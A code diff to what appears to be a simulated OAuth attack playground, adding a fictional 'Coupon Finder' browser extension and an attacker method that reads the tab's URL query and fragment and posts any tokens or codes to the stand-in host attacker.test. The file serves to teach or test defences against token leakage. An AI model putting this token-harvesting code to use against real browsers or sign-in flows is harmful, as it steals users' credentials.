@@ -20,6 +20,8 @@ from playground.wire.network import Host, Network
 ATTACKER_URL = "https://attacker.test"
 # The attacker's own authorization server, for the mix-up attack (RFC 9700 4.4).
 ATTACKER_AS_URL = "https://as.attacker.test"
+# The "Coupon Finder" browser extension Mallory publishes.
+EXTENSION_ORIGIN = "chrome-extension://couponfinder"
 
 _PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8">
 <title>Free prints! - totally legit</title></head><body>
@@ -202,6 +204,23 @@ class Attacker:
         }
         browser.fetch(
             f"{ATTACKER_URL}{path}", method="POST", data=params, mode="no-cors"
+        )
+
+    def extension_reports(self, browser: Browser, *, path: str = "/report") -> None:
+        """A browser extension of Mallory's reads the tab's address (fragment
+        included) and reports it home from its own origin, not the page's."""
+        parts = urlsplit(browser.address)
+        params = {
+            key: values[0]
+            for part in (parts.query, parts.fragment)
+            for key, values in parse_qs(part).items()
+        }
+        browser.fetch(
+            f"{ATTACKER_URL}{path}",
+            method="POST",
+            data=params,
+            mode="no-cors",
+            origin=EXTENSION_ORIGIN,
         )
 
     def redeem_code(
